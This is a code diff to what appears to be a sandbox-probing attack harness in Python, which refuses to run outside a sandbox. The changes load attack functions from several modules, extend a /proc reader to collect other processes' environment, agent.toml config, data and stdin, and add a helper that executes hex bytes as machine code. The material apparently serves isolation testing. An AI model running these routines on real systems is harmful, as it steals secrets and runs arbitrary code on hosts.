@@ -3,6 +3,7 @@
 import ctypes
 import errno
 import fcntl
+import importlib
 import os
 import resource
 import signal
@@ -10,6 +11,9 @@ import socket
 import subprocess
 import sys
 import threading
+
+# Where the attacks are. Each module is loaded only if those before it do not have the attack.
+MODULES = ("agent", "crowds", "ends", "words", "neighbours")
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 NEW_USER, NEW_NET = 0x10000000, 0x40000000
@@ -21,7 +25,12 @@ def run(input, context):
         raise RuntimeError("cannot attack: this is no sandbox")
     global CONTEXT
     CONTEXT = context
-    return {"outcome": globals()[input["attack"]](*input.get("with", []))}
+    return {"outcome": find(input["attack"])(*input.get("with", []))}
+
+
+def find(attack):
+    modules = map(importlib.import_module, MODULES)
+    return next(getattr(module, attack) for module in modules if hasattr(module, attack))
 
 
 def attempt(action, *arguments):
@@ -132,7 +141,7 @@ def secrets():
     """Return whatever of /proc can be read of any process, as one text."""
     found = []
     for pid in range(1, 50):
-        for name in ("environ", "cmdline", "maps"):
+        for name in ("environ", "cmdline", "maps", "root/data", "cwd/agent.toml", "fd/0"):
             try:
                 with open(f"/proc/{pid}/{name}", "rb") as file:
                     found.append(file.read().decode(errors="replace"))
@@ -207,15 +216,20 @@ def inotify():
 
 def machine_code(text):
     """Run bytes as a program of their own process; return how that ended."""
-    import mmap
-
     pid = os.fork()
     if pid == 0:
-        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
-        memory.write(bytes.fromhex(text))
-        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
-        os._exit(ctypes.CFUNCTYPE(ctypes.c_int)(address)() & 0xFF)
+        os._exit(jump_into(text) & 0xFF)
     return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+
+
+def jump_into(text):
+    """Run bytes as a function."""
+    import mmap
+
+    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    memory.write(bytes.fromhex(text))
+    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
+    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
 
 
 # -- resources --------------------------------------------------------------------------------------------------------
